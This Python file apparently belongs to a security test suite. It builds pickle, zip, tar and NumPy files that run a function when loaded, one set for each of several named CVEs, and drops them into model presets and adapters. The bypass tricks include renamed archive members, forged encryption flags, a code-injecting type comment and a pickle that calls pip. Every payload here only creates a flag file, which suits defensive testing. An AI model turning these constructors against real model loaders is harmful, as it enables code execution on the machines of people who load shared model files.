"""Pickles that call a function when they are read, in the files of several libraries."""

import gzip
import io
import pickle
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

from faults.advisories.objects import Opens, reading, sound
from faults.advisories.payload import Operations, Payload, Site

Data = Callable[[Path], bytes]
"""Returns the bytes of a file that would make another one."""

WEIGHTS, BIN = "model.safetensors", "pytorch_model.bin"


def plain(flag: Path, protocol: int = 2) -> bytes:
    return pickle.dumps(Opens(flag), protocol)


def call(module: str, name: str, *arguments: str) -> bytes:
    """Returns the pickle of a call with texts."""
    texts = b"".join(b"X" + len(text.encode()).to_bytes(4, "little") + text.encode() for text in arguments)
    return f"\x80\x02c{module}\n{name}\n(".encode() + texts + b"tR."


def zipped(data: bytes, **others: bytes) -> bytes:
    """Returns a pickle in an archive, as torch writes it."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        for name, content in {"data.pkl": data, "version": b"3\n", "data/0": bytes(8), **others}.items():
            archive.writestr(f"archive/{name}", content)
    return output.getvalue()


def of_torch(flag: Path) -> bytes:
    return zipped(plain(flag))


def of_old_torch(flag: Path) -> bytes:
    """Returns several pickles, as torch wrote them before release 1.6."""
    head = [0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}]
    return b"".join(pickle.dumps(part, 2) for part in head) + plain(flag) + pickle.dumps([], 2)


def in_tar(flag: Path) -> bytes:
    """Returns an archive of pickles, as the first releases of torch wrote it."""
    output = io.BytesIO()
    with tarfile.open(fileobj=output, mode="w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            member = tarfile.TarInfo(name)
            member.size = len(plain(flag))
            archive.addfile(member, io.BytesIO(plain(flag)))
    return output.getvalue()


def of_script(flag: Path) -> bytes:
    """Returns an archive with code, and a comment of a type that is a call."""
    code = f"def f(x):\n    # type: (__import__('pathlib').Path({str(flag)!r}).touch()) -> None\n    return x\n"
    return zipped(plain(flag), **{"code/__torch__.py": code.encode(), "constants.pkl": plain(flag)})


def of_numpy(flag: Path) -> bytes:
    """Returns an array of objects."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + plain(flag)


def several_of_numpy(flag: Path) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("layer.npy", of_numpy(flag))
    return output.getvalue()


def of_cloudpickle(flag: Path) -> bytes:
    return call("cloudpickle.cloudpickle", "_builtin_type", "CodeType") + plain(flag)


def of_joblib(flag: Path) -> bytes:
    return call("joblib.parallel", "Parallel", "1", f"open({str(flag)!r}, 'w')")


def with_state(flag: Path) -> bytes:
    """Returns a pickle that sets items of what is no table."""
    function = b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n"
    return zipped(function + b"(X\x08\x00\x00\x00__code__" + plain(flag)[2:-1] + b"u.")


def with_other_size(flag: Path) -> bytes:
    """Returns a tensor of more items than its storage has, and a pickle in another member."""
    text = b"X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuJ\x00\x00\x00\x10tQ"
    gradients = b"\x89ccollections\nOrderedDict\n)R"
    tensor = (
        b"ctorch._utils\n_rebuild_tensor_v2\n((" + text + b"K\x00J\x00\x00\x00\x10\x85K\x01\x85" + gradients + b"tR"
    )
    return zipped(b"\x80\x02}X\x01\x00\x00\x00a" + tensor + b"s.", other=plain(flag))


def with_pip(flag: Path) -> bytes:
    return call("pip", "main", "install") + plain(flag)


def with_another_name(flag: Path) -> bytes:
    """Returns an archive whose pickle has another name in its local header."""
    data = of_torch(flag)
    return data.replace(b"archive/data.pkl", b"archive/data.txt", 1)


def with_flags(flag: Path) -> bytes:
    """Returns an archive whose directory says that the members are encrypted."""
    data = bytearray(of_torch(flag))
    start = data.find(b"PK\x01\x02")
    while start >= 0:
        data[start + 8] |= 1
        start = data.find(b"PK\x01\x02", start + 4)
    return bytes(data)


def compressed(flag: Path) -> bytes:
    return gzip.compress(plain(flag), mtime=0)


# === Where such a file may be ===


def in_preset(way: str, name: str, data: Data, site: Site) -> Operations:
    from vertebra._presets.convert import convert_preset

    preset = sound(site, "transformers")
    if way in ("alone", "converted"):
        (preset / WEIGHTS).unlink()
    path = preset / (WEIGHTS if way == "as safetensors" else BIN if way == "converted" else name)
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(data(site.flag))
    if way == "converted":
        return [partial(convert_preset, preset, site.folder / "target", "native")]
    return reading(preset, site.folder / "target")


WAYS = ("alone", "next to the weights", "as safetensors", "converted")


def in_presets(name: str, **forms: Data) -> Iterator[Payload]:
    """Yields a payload for each form of a file, and each way in which it may be in a preset."""
    for form, data in forms.items():
        for way in WAYS:
            write = partial(in_preset, way, name, data)
            yield Payload(f"{name}, {form}, {way}", write, ignored=way == "next to the weights")


def in_adapters(name: str, **forms: Data) -> Iterator[Payload]:
    """Yields a payload for each form of a file in the folder of an adapter, alone and next to the tensors."""
    for form, data in forms.items():
        for alone in (True, False):
            write = partial(in_adapter, alone, name, data)
            yield Payload(f"{name}, {form}, of an adapter{' alone' if alone else ''}", write, ignored=not alone)


def in_adapter(alone: bool, name: str, data: Data, site: Site) -> Operations:
    from faults.advisories.adapters import loading, sound_adapter

    adapter = sound_adapter(site)
    if alone:
        (adapter / "adapter_model.safetensors").unlink()
    (adapter / name).write_bytes(data(site.flag))
    return loading(adapter, site)


def advisories() -> dict[str, list[Payload]]:
    """Returns the payloads by advisory."""
    return {
        "CVE-2025-32434": [*in_presets(BIN, zip=of_torch, old=of_old_torch, tar=in_tar)],
        "CVE-2026-24747": [*in_presets(BIN, items=with_state, size=with_other_size)],
        "CVE-2025-24357": [*in_presets("model.pt", zip=of_torch), *in_adapters("adapter_model.bin", zip=of_torch)],
        "CVE-2024-11393": [*in_presets("model.pkl", plain=plain, old=partial(plain, protocol=0))],
        "CVE-2024-11394": [*in_presets("model.pkl.gz", gzip=compressed)],
        "CVE-2026-1839": [*in_presets("rng_state.pth", zip=of_torch), *in_adapters("optimizer.pt", zip=of_torch)],
        "CVE-2024-3568": [*in_presets("extra_data.pickle", plain=plain)],
        "CVE-2023-6730": [*in_presets("index_meta.dpr", plain=plain), *in_presets("passages.pkl", plain=plain)],
        "CVE-2022-45907": [*in_presets("model.pt", script=of_script)],
        "CVE-2021-4118": [*in_presets("last.ckpt", zip=of_torch, plain=plain)],
        "CVE-2022-21797": [*in_presets("model.joblib", joblib=of_joblib)],
        "CVE-2019-6446": [*in_presets("model.npy", objects=of_numpy), *in_presets("model.npz", zip=several_of_numpy)],
        "CVE-2025-23298": [*in_presets("workflow.pkl", cloudpickle=of_cloudpickle)],
        "CVE-2025-1716": [*in_presets(BIN, pip=with_pip)],
        "CVE-2025-1889": [*in_presets("weights.config", plain=plain), *in_adapters("weights.p", plain=plain)],
        "CVE-2025-1944": [*in_presets(BIN, renamed=with_another_name)],
        "CVE-2025-1945": [*in_presets(BIN, flags=with_flags)],
        "CVE-2024-37054": [*in_presets("python_model.pkl", cloudpickle=of_cloudpickle)],
        "CVE-2024-37059": [*in_presets("data/model.pth", zip=of_torch)],
    }
